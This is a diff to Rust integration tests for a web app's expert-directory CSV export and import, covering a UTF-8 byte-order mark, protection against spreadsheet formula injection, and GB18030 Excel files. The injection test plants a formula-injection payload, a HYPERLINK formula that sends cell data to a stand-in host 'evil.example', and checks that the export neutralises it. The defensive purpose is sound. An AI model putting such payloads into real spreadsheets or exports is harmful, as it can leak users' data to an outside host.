@@ -179,7 +179,11 @@ async fn the_export_has_the_import_columns_and_reimports_cleanly() {
             .unwrap()
             .starts_with("text/csv")
     );
-    let text = export.body.as_str().unwrap().to_owned();
+    let raw = export.body.as_str().unwrap().to_owned();
+    let text = raw
+        .strip_prefix('\u{feff}')
+        .expect("the export starts with a BOM, so Excel reads it as UTF-8")
+        .to_owned();
     assert_eq!(
         text.lines().next(),
         SAMPLE.lines().next(),
@@ -196,11 +200,95 @@ async fn the_export_has_the_import_columns_and_reimports_cleanly() {
         .await;
     assert_eq!(reimport.assert_status(201)["created"], 3);
     let again = fresh.get("/api/v1/experts/export.csv", &fresh_admin).await;
-    assert_eq!(again.body.as_str().unwrap(), text);
+    assert_eq!(again.body.as_str().unwrap(), raw);
 
     let (_, _) = app.school_account("school.a");
     let (school, _) = app.tokens("school.a").await;
     app.get("/api/v1/experts/export.csv", &school)
         .await
         .assert_problem(403, "forbidden");
+}
+
+#[actix_web::test]
+async fn exported_cells_never_run_as_formulas_and_come_back_as_they_were() {
+    let app = TestApp::new().await;
+    let (_, admin) = app.admin().await;
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
+    let lin = app.expert("lin.evil", "reading", ExpertStatus::Active);
+    let (as_lin, _) = app.tokens("lin.evil").await;
+    app.patch(
+        &format!("/api/v1/experts/{}", lin.id),
+        &as_lin,
+        None,
+        json!({ "bio": evil, "phone": "+8613800000000", "specialties": ["-亲子沟通", "@阅读"] }),
+    )
+    .await
+    .assert_status(200);
+
+    let export = app.get("/api/v1/experts/export.csv", &admin).await;
+    let raw = export.body.as_str().unwrap().to_owned();
+    let text = raw.strip_prefix('\u{feff}').unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula in the export: {cell:?}"
+            );
+        }
+    }
+    assert!(text.contains("'+8613800000000"));
+
+    // Re-imported elsewhere, the cells are what they were.
+    let fresh = TestApp::new().await;
+    let (_, fresh_admin) = fresh.admin().await;
+    fresh
+        .call(csv_request("/api/v1/experts/import", &fresh_admin, &raw))
+        .await
+        .assert_status(201);
+    let experts = fresh.get("/api/v1/experts?q=hyperlink", &fresh_admin).await;
+    let expert = &experts.assert_status(200)["items"][0];
+    assert_eq!(expert["bio"], evil);
+    assert_eq!(expert["phone"], "+8613800000000");
+    assert_eq!(expert["specialties"], json!(["-亲子沟通", "@阅读"]));
+}
+
+#[actix_web::test]
+async fn a_file_saved_by_excel_on_chinese_windows_imports() {
+    let app = TestApp::new().await;
+    let (_, admin) = app.admin().await;
+    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(SAMPLE);
+    assert!(!unmappable);
+
+    let response = app
+        .call(
+            TestRequest::post()
+                .uri("/api/v1/experts/import")
+                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
+                .insert_header((header::CONTENT_TYPE, "text/csv"))
+                .set_payload(gbk.into_owned()),
+        )
+        .await;
+
+    assert_eq!(response.assert_status(201)["created"], 3);
+    let names: Vec<String> = app.with_conn(|conn| {
+        guanai::models::expert::Expert::all(conn)
+            .unwrap()
+            .into_iter()
+            .map(|e| e.name)
+            .collect()
+    });
+    assert!(names.contains(&"陈玉珍".to_owned()), "{names:?}");
+
+    let garbage = app
+        .call(
+            TestRequest::post()
+                .uri("/api/v1/experts/import")
+                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
+                .insert_header((header::CONTENT_TYPE, "text/csv"))
+                .set_payload(vec![0xff, 0xfe, 0xfd, 0x80, 0x81]),
+        )
+        .await;
+    garbage.assert_problem(422, "validation_failed");
+    assert_eq!(garbage.body["errors"][0]["code"], "invalid_encoding");
 }
